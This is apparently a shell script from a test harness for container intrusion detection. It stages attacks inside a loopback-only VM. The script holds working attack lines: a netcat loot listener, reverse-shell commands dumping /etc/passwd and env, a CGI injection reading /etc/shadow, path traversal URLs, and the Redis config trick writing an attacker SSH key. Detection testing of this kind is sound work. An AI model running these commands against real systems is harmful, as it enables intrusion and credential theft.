# SPDX-License-Identifier: GPL-2.0
# The attacks, each from inside a container. Sourced by guest.sh.
#
# All of them stay in this virtual machine: the only network is loopback.

UPLOAD=/opt/upload
LOOT_PORT=9999
SHELL_PORT=4444
ATTACK_SECONDS=20

# name | container | way in | after it the service is started afresh
ATTACKS='credentials|redis|new process|
port scan|nginx|new process|
miner|redis|new process|
container escape|nginx|new process|
reverse shell|nginx|new process|
ptrace injection|redis|new process|restart
module runs a shell|redis|service turned|restart
module searches files|redis|service turned|restart
worker runs a shell|nginx|service turned|restart'

# Nothing but the files is new.
PATH_ATTACKS='path traversal|nginx|other files|
key written|redis|other files|restart'
[ "$PATHS" = 0 ] || ATTACKS+=$'\n'$PATH_ATTACKS

# The service's own process does what other programs of its container do, or what it does
# itself to other files: caught in some runs, missed in others. With HARD=1 they count, too.
HARD_ATTACKS='module scans ports|redis|service turned|restart
worker reads processes|nginx|service turned|restart'
[ -z "${HARD:-}" ] || ATTACKS+=$'\n'$HARD_ATTACKS

# Somebody who takes what is sent, outside the containers.
start_listener() {
	busybox nc -ll -p "$LOOT_PORT" -e busybox sh -c 'cat >>/tmp/loot' &
	await 5 nc -z 127.0.0.1 "$LOOT_PORT"
}

reverse_shell() {
	{
		printf '%s\n' id 'uname -a' 'cat /etc/passwd' 'ls -la / /root /tmp' 'env' \
			'find /etc -name "*.conf" | head' 'cat /proc/mounts' exit
		sleep 2
	} | nc -l -p "$SHELL_PORT" >>/tmp/loot &
	sleep 0.3
	inside nginx 33:33 "$UPLOAD/reverse-shell.sh" "$SHELL_PORT"
	wait $!
}

# The worker does what it always does, to files that it never read.
path_traversal() {
	local name names=()

	for name in machine-id hosts login.defs adduser.conf debian_version deluser.conf issue \
		ld.so.conf hostname host.conf; do
		names+=("http://127.0.0.1/brand../$name")
	done
	curl -s --path-as-is "${names[@]}" "${names[@]}" "${names[@]}"
}

# attack NAME: carry it out; returns when it is over. What had no effect is named in `undone`.
attack() {
	case $1 in
	credentials) inside redis 0:0 "$UPLOAD/credentials.sh" "$LOOT_PORT" ;;
	'port scan') inside nginx 33:33 "$UPLOAD/port-scan" ;;
	miner) inside redis 100:101 "$UPLOAD/miner" "$LOOT_PORT" 4 ;;
	'container escape') inside nginx 0:0 "$UPLOAD/escape" ;;
	'reverse shell') reverse_shell ;;
	'ptrace injection')
		inside redis 100:101 "$UPLOAD/inject" redis-server /etc/passwd "$LOOT_PORT" ;;
	'module runs a shell')
		redis-cli module load "$UPLOAD/redis-module.so"
		redis-cli turn.shell 'id; cat /etc/passwd; ls -la / | head -n 5 >/tmp/x' ;;
	'module searches files')
		redis-cli module load "$UPLOAD/redis-module.so"
		redis-cli turn.search /usr/share ;;
	'module scans ports')
		redis-cli module load "$UPLOAD/redis-module.so"
		redis-cli turn.scan ;;
	'worker runs a shell')
		curl -s -G --data-urlencode 'cmd=id; cat /etc/shadow; ls -laR /etc | head -n 40' \
			http://127.0.0.1/cgi ;;
	'path traversal') path_traversal ;;
	'key written')
		redis-cli config set dir /var/tmp
		redis-cli config set dbfilename authorized_keys
		redis-cli set key 'ssh-ed25519 AAAA attacker'
		redis-cli save
		redis-cli save
		[ -s "$STATE/redis/rootfs/var/tmp/authorized_keys" ] || echo "$1" >>undone ;;
	'worker reads processes')
		curl -s "http://127.0.0.1/cgi?port=$LOOT_PORT" ;;
	esac
}
